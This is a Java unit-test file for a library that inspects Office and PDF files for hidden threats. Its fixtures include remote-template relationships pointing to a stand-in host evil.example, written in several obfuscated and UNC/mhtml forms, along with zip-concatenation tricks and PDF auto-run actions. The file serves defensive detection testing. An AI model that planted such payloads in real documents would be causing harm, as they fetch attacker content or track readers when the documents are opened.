package jp.akashi.evidence;

import static jp.akashi.evidence.Samples.ascii;
import static jp.akashi.evidence.Samples.office;
import static jp.akashi.evidence.Samples.pdf;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.SeekableByteChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import jp.akashi.scheme.DocumentFormat;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What files do, hold or lack that one does not see at their beginning. */
class HiddenThingsTest {

  @TempDir Path directory;

  private FileLook look(DocumentFormat format, byte[] content) throws IOException {
    Path file = Files.write(directory.resolve("file"), content);
    try (SeekableByteChannel channel = Files.newByteChannel(file)) {
      return FileLook.at(format, channel);
    }
  }

  private Readability readability(DocumentFormat format, byte[] content) throws IOException {
    return look(format, content).readability();
  }

  @Test
  void partsThatOnlyTheDirectoryNamesAreFound() throws IOException {
    byte[] harmless = office("word/document.xml", ascii("<w/>"), 1);
    assertThat(readability(DocumentFormat.DOCX, harmless)).isEqualTo(Readability.READABLE);
    byte[] program = twoArchives("word/document.xml", "word/vbaProject.bin", "x");
    assertThat(readability(DocumentFormat.DOCX, program)).isEqualTo(Readability.UNSAFE);
  }

  /** What Office reads is judged, not what stands under the same name before it. */
  @Test
  void partsOfTheSameNameAreReadWhereTheDirectoryPoints() throws IOException {
    String name = "word/_rels/settings.xml.rels";
    assertThat(readability(DocumentFormat.DOCX, twoArchives(name, name, remote())))
        .isEqualTo(Readability.UNSAFE);
    assertThat(readability(DocumentFormat.DOCX, twoArchives(name, name, "<Relationships/>")))
        .as("harmless, and yet two things at once")
        .isNotEqualTo(Readability.READABLE);
  }

  private static String remote() {
    return "<Relationships xmlns='r'><Relationship Id='a' Type='x/attachedTemplate'"
        + " TargetMode='External' Target='http://evil.example/t.dotm'/></Relationships>";
  }

  /** One archive from the beginning, another one by the directory at the end. */
  private static byte[] twoArchives(String name, String otherName, String otherContent)
      throws IOException {
    byte[] first = office(name, ascii("<w/>"), 1);
    byte[] second = office(otherName, ascii(otherContent), 1);
    int directory = indexOf(first, new byte[] {'P', 'K', 1, 2});
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(first, 0, directory);
    out.write(ascii("junk"));
    out.write(second);
    return out.toByteArray();
  }

  private static int indexOf(byte[] all, byte[] wanted) {
    return new String(all, StandardCharsets.ISO_8859_1)
        .indexOf(new String(wanted, StandardCharsets.ISO_8859_1));
  }

  @ParameterizedTest
  @CsvSource({
    "attachedTemplate, http://evil.example/t.dotm, UNSAFE",
    "attachedTemplate, http:&#x2F;&#x2F;evil.example/t.dotm, UNSAFE",
    "attachedTemplate, '\\\\evil.example\\t.dotm', UNSAFE",
    "attachedTemplate, 'file:///\\\\evil\\t.dotm', UNSAFE",
    "oleObject, file://evil/x, UNSAFE",
    "image, https://evil.example/pixel.png, UNSAFE",
    "oleObject, mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html, UNSAFE",
    "attachedTemplate, '&#10;http://evil.example/t.dotm', UNSAFE",
    "attachedTemplate, 'C:\\Users\\sato\\Kaisha.dotx', READABLE",
    "attachedTemplate, 'file:///C:\\Users\\sato\\Kaisha.dotx', READABLE",
    "hyperlink, https://www.meti.go.jp/, READABLE",
    "image, media/image1.png, READABLE"
  })
  void whatAnOfficeFileFetchesWhenItIsOpenedIsFound(String type, String target, Readability is)
      throws IOException {
    byte[] relations =
        ascii(
            "<Relationships xmlns=\"r\"><Relationship Id=\"a\" Type=\"http://x/"
                + type
                + "\" TargetMode=\"External\" Target=\""
                + target
                + "\"/></Relationships>");
    byte[] file = office("word/_rels/settings.xml.rels", relations, 1);
    assertThat(readability(DocumentFormat.DOCX, file)).isEqualTo(is);
  }

  @ParameterizedTest
  @ValueSource(strings = {"JavaScript", "Launch", "URI", "SubmitForm"})
  void whatAPdfDoesByItselfIsFoundWhereverItStands(String what) throws IOException {
    for (Consumer<PDDocument> place : places(action(what))) {
      assertThat(readability(DocumentFormat.PDF, pdf(place::accept))).isEqualTo(Readability.UNSAFE);
    }
  }

  private static List<Consumer<PDDocument>> places(COSDictionary action) {
    COSName additional = COSName.getPDFName("AA");
    COSDictionary occasions = new COSDictionary();
    occasions.setItem(COSName.O, action);
    COSDictionary shown = new COSDictionary();
    shown.setItem(COSName.getPDFName("PV"), action);
    COSDictionary note = new COSDictionary();
    note.setItem(additional, shown);
    COSArray annotation = new COSArray();
    annotation.add(note);
    COSArray several = new COSArray();
    several.add(action("GoTo"));
    several.add(action);
    COSDictionary chain = action("GoTo");
    chain.setItem(COSName.NEXT, several);
    return List.of(
        d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action),
        d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, chain),
        d -> d.getDocumentCatalog().getCOSObject().setItem(additional, occasions),
        d -> d.getPage(1).getCOSObject().setItem(additional, occasions),
        d -> d.getPage(1).getCOSObject().setItem(COSName.ANNOTS, annotation));
  }

  private static COSDictionary action(String what) {
    COSDictionary action = new COSDictionary();
    action.setName(COSName.S, what);
    return action;
  }

  @Test
  void aPdfThatGoesToItsFirstPageIsReadable() throws IOException {
    byte[] file =
        pdf(
            d ->
                d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action("GoTo")));
    assertThat(readability(DocumentFormat.PDF, file)).isEqualTo(Readability.READABLE);
  }

  @Test
  void aLargeArchiveBehindAPictureIsFound() {
    byte[] end = new byte[22];
    ByteBuffer record = ByteBuffer.wrap(end).order(ByteOrder.LITTLE_ENDIAN);
    record.put(new byte[] {'P', 'K', 5, 6}).putInt(0).putShort((short) 1).putShort((short) 1);
    record.putInt(-1).putInt(-1);
    assertThat(Polyglot.ends(end, 1000, DocumentFormat.PNG)).isTrue();
    assertThat(Polyglot.ends(end, 1000, DocumentFormat.DOCX)).isFalse();
  }

  @ParameterizedTest
  @CsvSource({
    "word/document.xml, <w:p><w:r><w:t>規程</w:t></w:r></w:p>, false",
    "word/document.xml, <w:p><w:r><w:t xml:space=\"preserve\"> </w:t></w:r></w:p>, true",
    "word/document.xml, <w:p/>, true",
    "word/media/image1.png, x, false",
    "xl/worksheets/sheet1.xml, <c t=\"s\"><v>0</v></c>, false",
    "xl/worksheets/sheet1.xml, <c s=\"1\"/>, true",
    "xl/worksheets/sheet1.xml, <x:c><x:v>3</x:v></x:c>, false",
    "word/document2.xml, <w:t>規程</w:t>, false",
    "ppt/slides/slide1.xml, <a:r><a:t>案</a:t></a:r>, false",
    "ppt/slides/slide1.xml, <a:p/>, true"
  })
  void anOfficeFileThatShowsNothingIsBlank(String part, String text, boolean blank)
      throws IOException {
    byte[] file = office(part, text.getBytes(StandardCharsets.UTF_8), 1);
    assertThat(look(DocumentFormat.DOCX, file))
        .isEqualTo(new FileLook(Readability.READABLE, null, blank));
  }

  @Test
  void aLongScanOfEmptyPagesIsBlankAndOneWithSomethingOnItsLastIsNot() throws IOException {
    assertThat(look(DocumentFormat.PDF, pdf(d -> pages(d, 38))).blank()).isTrue();
    byte[] last =
        pdf(
            d -> {
              Samples.line(d);
              PDPage drawn = d.getPage(1);
              d.removePage(drawn);
              pages(d, 38);
              d.addPage(drawn);
            });
    assertThat(look(DocumentFormat.PDF, last).blank()).isFalse();
  }

  private static void pages(PDDocument document, int more) {
    for (int i = 0; i < more; i++) {
      document.addPage(new PDPage());
    }
  }

  @Test
  void anArchiveWithFoldersIsReadable() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
      zip.putNextEntry(new ZipEntry("word/"));
      zip.putNextEntry(new ZipEntry("word/document.xml"));
      zip.write(ascii("<w:t>a</w:t>"));
    }
    assertThat(readability(DocumentFormat.DOCX, out.toByteArray())).isEqualTo(Readability.READABLE);
  }
}
